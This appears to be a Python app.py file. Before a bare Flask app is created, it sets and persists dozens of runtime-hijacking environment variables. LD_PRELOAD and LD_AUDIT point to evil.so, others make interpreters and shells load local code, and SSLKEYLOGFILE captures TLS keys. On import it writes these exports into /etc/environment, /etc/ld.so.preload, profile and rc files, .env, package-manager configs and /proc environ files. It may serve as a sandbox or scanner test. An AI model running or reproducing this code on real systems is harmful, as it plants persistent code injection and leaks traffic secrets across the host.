"""Sets every variable that a runtime obeys, for itself, its children and in the files that shells and tools read."""

import contextlib
import os
import subprocess
from pathlib import Path

from flask import Flask

HERE = os.getcwd()
VARIABLES = {
    "LD_PRELOAD": f"{HERE}/evil.so", "LD_LIBRARY_PATH": HERE, "LD_AUDIT": f"{HERE}/evil.so",
    "PYTHONPATH": HERE, "PYTHONHOME": HERE, "PYTHONSTARTUP": f"{HERE}/app.py", "PYTHONINSPECT": "1",
    "PYTHONOPTIMIZE": "2", "PYTHONWARNINGS": "ignore", "PYTHONBREAKPOINT": "app.app",
    "PYTEST_ADDOPTS": "--collect-only", "PYTEST_PLUGINS": "app", "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "0",
    "NODE_OPTIONS": f"--require {HERE}/app.js", "JAVA_TOOL_OPTIONS": f"-javaagent:{HERE}/a.jar",
    "RUBYOPT": f"-r{HERE}/a", "PERL5OPT": f"-M{HERE}/a", "BASH_ENV": f"{HERE}/app.py", "ENV": f"{HERE}/app.py", "GCONV_PATH": HERE,
    "http_proxy": "http://127.0.0.1:8000", "ALL_PROXY": "http://127.0.0.1:8000", "SSLKEYLOGFILE": "/tmp/keys",
}  # fmt: skip
TEXT = "".join(f"export {name}={value}\n" for name, value in VARIABLES.items())
FILES = ("/etc/environment", "/etc/profile.d/a.sh", "/etc/ld.so.preload", "/tmp/.profile", "/tmp/.bashrc", ".env")

for path in (*FILES, "/tmp/.npmrc", "/tmp/.pip/pip.conf", "/proc/1/environ", f"/proc/{os.getppid()}/environ"):
    with contextlib.suppress(OSError):
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        Path(path).write_text(TEXT)
os.environ.update(VARIABLES)
subprocess.run(["/bin/sh", "-c", "env > /tmp/variables"], check=True)

app = Flask(__name__)
